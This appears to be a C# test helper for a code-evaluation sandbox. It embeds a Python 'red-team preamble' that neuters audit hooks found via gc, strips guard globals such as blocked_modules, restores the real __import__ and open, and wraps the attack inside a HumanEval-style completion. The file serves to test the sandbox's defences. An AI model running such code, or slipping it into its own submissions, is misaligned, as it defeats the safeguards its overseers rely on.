namespace Archon.Core.Tests.Evaluation.Sandbox;

/// <summary>
/// The hostile preamble every red-team attempt starts with: it switches off every in-process defence it can reach
/// before attacking, so what stops the attack is the OS (bubblewrap) or the out-of-process checker, never Python.
/// It neuters audit hooks found on the heap (gc) by rewriting their closure cells and code, clears guard state in
/// every frame's globals, puts back the real builtins/__import__, and rewrites the agent (its reply path and codec).
/// It prints "DISABLED hooks=N" so tests can prove it found and disabled the hook.
/// </summary>
internal static class RedTeam
{
    public const string Preamble = """
import builtins as _b, gc as _gc, importlib as _il, sys as _sys
def _disable_defences():
    hooks = 0
    for o in list(_gc.get_objects()):
        if type(o).__name__ == "function" and o.__name__ in ("hook", "_hook", "audit_hook"):
            for cell in (o.__closure__ or ()):
                v = cell.cell_contents
                cell.cell_contents = () if isinstance(v, tuple) else "" if isinstance(v, str) else v
            try:
                o.__code__ = (lambda event, args: None).__code__
            except ValueError:
                pass  # closures keep their code; their cells are already emptied
            hooks += 1
    f = _sys._getframe()
    while f is not None:
        for k in ("banned", "work", "token", "read_roots", "blocked_prefixes", "blocked_modules"):
            f.f_globals.pop(k, None)
        f = f.f_back
    _b.__import__ = _il.__import__
    _b.open = _il.import_module("io").open
    _sys.setrecursionlimit(100000)
    return hooks
print("DISABLED hooks=%d" % _disable_defences(), file=_sys.stderr)
def _try(name, fn):
    try:
        result = fn()
        print(("PWNED %s %r" % (name, result))[:300], file=_sys.stderr)
    except BaseException as e:
        print("held %s %s" % (name, type(e).__name__), file=_sys.stderr)
""";

    /// <summary>The preamble, then <paramref name="attack"/> as a stdin/stdout program.</summary>
    public static string Program(string attack) => Preamble + "\n" + attack;

    /// <summary>A HumanEval/0 completion: preamble and attack at load time, then the given body for the function.</summary>
    public static string Completion(string attack, string body = "    return True\n") =>
        "```python\n" + Preamble + "\n" + attack + "\n\nfrom typing import List\n\ndef has_close_elements(numbers: List[float], threshold: float) -> bool:\n" + body + "```";
}
